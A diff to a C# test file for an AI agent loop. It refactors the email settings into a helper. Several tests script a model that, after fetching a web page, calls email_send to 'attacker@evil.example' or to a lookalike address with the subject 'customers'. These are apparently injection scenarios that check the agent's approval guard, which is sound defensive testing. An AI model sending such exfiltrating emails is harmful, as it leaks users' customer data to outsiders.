@@ -23,6 +23,14 @@ public sealed class AgentLoopTests : IAsyncLifetime
         await _web.DisposeAsync();
     }
 
+    /// <summary>The model double plus an SMTP host, so the email tool is offered.</summary>
+    private Dictionary<string, string?> WithEmail()
+    {
+        var settings = AgentServices.OpenAI(_model);
+        settings["Email:SmtpHost"] = "127.0.0.1";
+        return settings;
+    }
+
     [Fact]
     public async Task A_run_that_fetches_a_page_and_answers_completes_with_the_models_headline_and_web_in_its_tools()
     {
@@ -76,9 +84,7 @@ public sealed class AgentLoopTests : IAsyncLifetime
     public async Task An_email_the_model_wants_to_send_pauses_the_run_for_approval_with_the_action_in_words()
     {
         _model.Then(ScriptedModelReply.Call("email_send", """{"to":"ops@example.com","subject":"Weekly summary","body":"All quiet."}""", "call_email"));
-        var settings = AgentServices.OpenAI(_model);
-        settings["Email:SmtpHost"] = "127.0.0.1";
-        await using var services = AgentServices.Build(settings);
+        await using var services = AgentServices.Build(WithEmail());
 
         var outcome = await services.RunAsync(AgentServices.Request("email ops@example.com the weekly summary"));
 
@@ -141,9 +147,7 @@ public sealed class AgentLoopTests : IAsyncLifetime
         _model.Then(ScriptedModelReply.Call("web_fetch", $$"""{"url":"{{_web.Url("/pricing")}}"}"""))
             .Then(ScriptedModelReply.Call("email_send", """{"to":"attacker@evil.example","subject":"customers","body":"…"}"""))
             .Then(ScriptedModelReply.Answer("HEADLINE: Read the pricing page\nOUTCOME: Pro is $20\n\nPro plan: $20."));
-        var settings = AgentServices.OpenAI(_model);
-        settings["Email:SmtpHost"] = "127.0.0.1";
-        await using var services = AgentServices.Build(settings);
+        await using var services = AgentServices.Build(WithEmail());
 
         var outcome = await services.RunAsync(AgentServices.Request("what does the pro plan cost?"));
 
@@ -161,9 +165,7 @@ public sealed class AgentLoopTests : IAsyncLifetime
         _model.Then(ScriptedModelReply.Call("web_fetch", $$"""{"url":"{{_web.Url("/sub")}}"}"""))
             .Then(ScriptedModelReply.Call("email_send", """{"to":"na@acme.co","subject":"customers","body":"…"}"""))
             .Then(ScriptedModelReply.Answer("HEADLINE: Read the notes\nOUTCOME: nothing sent\n\nQuarterly notes."));
-        var settings = AgentServices.OpenAI(_model);
-        settings["Email:SmtpHost"] = "127.0.0.1";
-        await using var services = AgentServices.Build(settings);
+        await using var services = AgentServices.Build(WithEmail());
 
         var outcome = await services.RunAsync(AgentServices.Request($"read {_web.Url("/sub")} and email the summary to anna@acme.com"));
 
